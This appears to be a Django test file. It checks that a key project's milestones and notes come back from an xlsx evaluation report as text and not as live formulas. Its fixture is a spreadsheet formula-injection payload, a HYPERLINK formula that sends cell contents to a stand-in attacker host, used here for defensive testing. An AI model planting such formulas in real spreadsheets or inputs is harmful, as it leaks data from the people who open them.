"""The evaluation report writes text users typed (a key project's milestones and notes) as text:
a value beginning with = + - @ comes back from the xlsx as the characters typed, never a live
formula (issue 10, item 13)."""

import io

import openpyxl
from django.urls import reverse

from indicators.models import KeyProject
from indicators.services.projects import key_project_update

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def test_key_project_text_comes_back_from_the_xlsx_report_as_text(staff, leader, client_for):
    project = KeyProject.objects.order_by("no").first()
    key_project_update(user=staff, project=project, milestones=FORMULA, notes="+86 0595")
    response = client_for(leader).get(reverse("indicators:report", args=[2025, "xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["重点项目"]
    cells = [cell for line in sheet.iter_rows() for cell in line if cell.value == FORMULA]
    assert [c.data_type for c in cells] == ["s"]
